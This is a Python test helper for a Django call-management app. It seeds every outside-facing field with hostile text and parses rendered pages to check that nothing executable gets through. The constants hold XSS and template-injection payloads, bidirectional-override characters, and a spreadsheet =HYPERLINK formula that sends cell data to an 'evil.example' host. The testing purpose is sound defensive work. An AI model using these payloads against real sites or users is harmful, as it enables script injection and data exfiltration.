"""Text that strangers may speak or send, made to break out of a page, and a reader that sees whether it did."""

from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

from django.utils import timezone

from calls.models import (
    Agent,
    AnswerCorrection,
    CallEvent,
    CallExport,
    CallList,
    CallLog,
    CallNote,
    CallTemplate,
    Contact,
    DataPoint,
    ListEvent,
    SavedView,
    Transcript,
    WebhookDelivery,
)
from calls.osvi.cleaning import clean_json
from tests.browser.cast import Cast

# The mark is how an element or attribute born from such a text is recognised: nothing else has it in its name.
MARK = "xq7"
HOSTILE = (
    f"<script {MARK}>window.{MARK}=1</script>"
    f"<img {MARK} src=x onerror='window.{MARK}=1'>"
    f"</textarea></title></style></template><{MARK}-element>"
    f'" {MARK}a=1 onmouseover="window.{MARK}=1" x=\''
    f"' {MARK}b=1 onfocus='window.{MARK}=1' x=\""
    f"javascript:window.{MARK}=1 {{{{ {MARK} }}}} {{% {MARK} %}} ${{{MARK}}} <!-- {MARK} --> ]]> &lt;{MARK}&gt;"
)
# Turns the direction of reading round, for what stands after it too, unless it is kept apart.
TURNED = "\u202etxt.exe\u202c \u2066\u200f "
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
LONG = "W" * 200
TEXT = f"{HOSTILE}{TURNED}"


def text(length: int = 10_000) -> str:
    """Return hostile text of at most so many characters, whole parts first."""
    return TEXT[:length]


def make_hostile(cast: Cast) -> None:
    """Put hostile text into everything that comes from outside, and into what staff typed."""
    short = text(200)
    Agent.objects.update(name=text(255))
    for template in CallTemplate.objects.all():
        CallTemplate.objects.filter(pk=template.pk).update(name=f"{template.pk}{text(90)}")
    template = CallTemplate.objects.get(pk=cast.template.pk)
    template.greeting = f"{HOSTILE.replace('{', '').replace('}', '')} {{{{ person_name }}}}"
    template.prompt = template.greeting
    template.additional_data = {"clinic": TEXT, f"{MARK}<b>": TEXT}
    template.save()
    DataPoint.objects.update(description=TEXT, output_format=short)
    template.record_version(None)
    CallLog.objects.update(
        person_name=short, status_reason=TEXT, ended_by=short, ended_reason=short, tag=short
    )
    CallLog.objects.filter(pk=cast.under_way.pk).update(outcome=short)
    call = CallLog.objects.get(pk=cast.finished.pk)
    turns = [{"speaker": speaker, "text": TEXT, "at": TEXT} for speaker in ("agent", "person", TEXT)]
    Transcript.objects.filter(call=call).update(turns=turns, raw=turns, text=TEXT)
    call.summary = TEXT
    call.extracted = {"confirmed": TEXT, TEXT: TEXT, "list": [TEXT, {"a": TEXT}]}
    call.analysis = {TEXT: TEXT, "sentiment": TEXT}
    call.request = clean_json({**call.request, "initial_greeting": TEXT, "system_prompt": TEXT})
    call.request["additional_data"] = {TEXT: TEXT}
    call.request["data_extraction"] = [{"key": "confirmed", "description": TEXT, "required": True}]
    call.save()
    CallEvent.objects.create(call=call, source="poll", why=TEXT, evidence={TEXT: TEXT})
    CallNote.objects.create(call=call, by=cast.boss, text=TEXT)
    AnswerCorrection.objects.create(call=call, key="confirmed", corrected=TEXT, by=cast.boss)
    CallList.objects.update(name=text(120), file_name=text(255), status_reason=TEXT)
    Contact.objects.update(
        person_name=short,
        values={"appointment_date": TEXT, TEXT: TEXT},
        detail={"reason": TEXT, "names": [TEXT]},
    )
    ListEvent.objects.update(what=TEXT)
    for view in SavedView.objects.all():
        SavedView.objects.filter(pk=view.pk).update(name=f"{view.pk}{text(70)}")
    CallExport.objects.update(error=TEXT)
    body = f'{{"call_status": "{MARK}", "a": "</pre>{HOSTILE}"}}'.encode()
    WebhookDelivery.objects.update(
        body=body,
        body_size=len(body),
        headers={f"X-{MARK}<b>": TEXT, "Content-Type": TEXT},
        error=TEXT,
        matched_by=text(100),
        changed=[TEXT],
        received_at=timezone.now(),
    )
    cast.boss.first_name = text(150)
    cast.boss.last_name = FORMULA
    cast.boss.save()


@dataclass
class Page(HTMLParser):
    """What a browser would make of a page: elements and attributes whose names give away where they come from."""

    born: list[str] = field(default_factory=list)
    shown: list[str] = field(default_factory=list)
    scripts: list[str] = field(default_factory=list)
    _inside: str = ""

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        self.born += [tag] if MARK in tag else []
        for name, value in attrs:
            acts = name.startswith("on") or (name in LEADING and is_script(value))
            if MARK in name or acts or (name == "srcdoc"):
                self.born.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_comment(self, data: str) -> None:
        self.born += [f"<!--{data}-->"] if MARK in data else []

    def handle_data(self, data: str) -> None:
        (self.scripts if self._inside in {"script", "style"} else self.shown).append(data)


LEADING = {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post"}


def is_script(address: Any) -> bool:
    return str(address).strip().lower().startswith(("javascript:", "data:text", "vbscript:"))


def read(page: str) -> Page:
    found = Page()
    found.feed(page)
    found.close()
    found.born += [f"inside <script>: {code[:80]}" for code in found.scripts if MARK in code]
    return found
